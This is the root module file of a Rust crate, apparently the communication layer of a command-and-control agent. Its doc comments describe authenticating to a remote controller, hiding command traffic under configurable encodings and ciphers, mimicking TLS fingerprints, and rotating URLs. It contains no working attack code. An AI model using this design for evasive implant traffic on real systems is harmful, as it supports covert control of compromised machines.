//! # courier
//!
//! The client-side messaging engine of an HTTP-family agent: it
//! authenticates to a remote controller, then continuously exchanges
//! opaque command/response messages over one of several carriers.
//!
//! ## Architecture Overview
//!
//! ```text
//! ┌─────────────────────────────────────────────────────────┐
//! │                  Agent Loop (caller)                     │
//! ├─────────────────────────────────────────────────────────┤
//! │  Client (send/receive, URL rotation, token handling)    │
//! ├─────────────────────────────────────────────────────────┤
//! │  Transform Pipeline (encoders + keyed ciphers)          │
//! ├─────────────────────────────────────────────────────────┤
//! │  Authenticator (none | OPAQUE PAKE state machine)       │
//! ├─────────────────────────────────────────────────────────┤
//! │  Transport (HTTP/1.1, h2, h2c, HTTP/3, TLS mimicry)     │
//! └─────────────────────────────────────────────────────────┘
//! ```
//!
//! ## Design Goals
//!
//! 1. **Opaque traffic**: every message crosses the wire as an
//!    operator-configured stack of encodings and ciphers
//! 2. **Carrier agility**: one round-tripper interface over five HTTP
//!    carriers plus fingerprint-mimicking TLS
//! 3. **Survivability**: URL rotation, in-place QUIC rebuilds, and
//!    dual-key decoding when the server evicts a session

#![warn(rust_2018_idioms)]

pub mod auth;
pub mod client;
pub mod config;
pub mod error;
pub mod message;
pub mod registry;
pub mod token;
pub mod transform;
pub mod transport;

mod padding;

pub use client::Client;
pub use config::Config;
pub use error::{Error, Result};
pub use message::{Message, MessageKind, OpaqueKind, OpaqueMessage, Payload};
pub use transform::{Pipeline, Transform, Value};
pub use transport::Protocol;
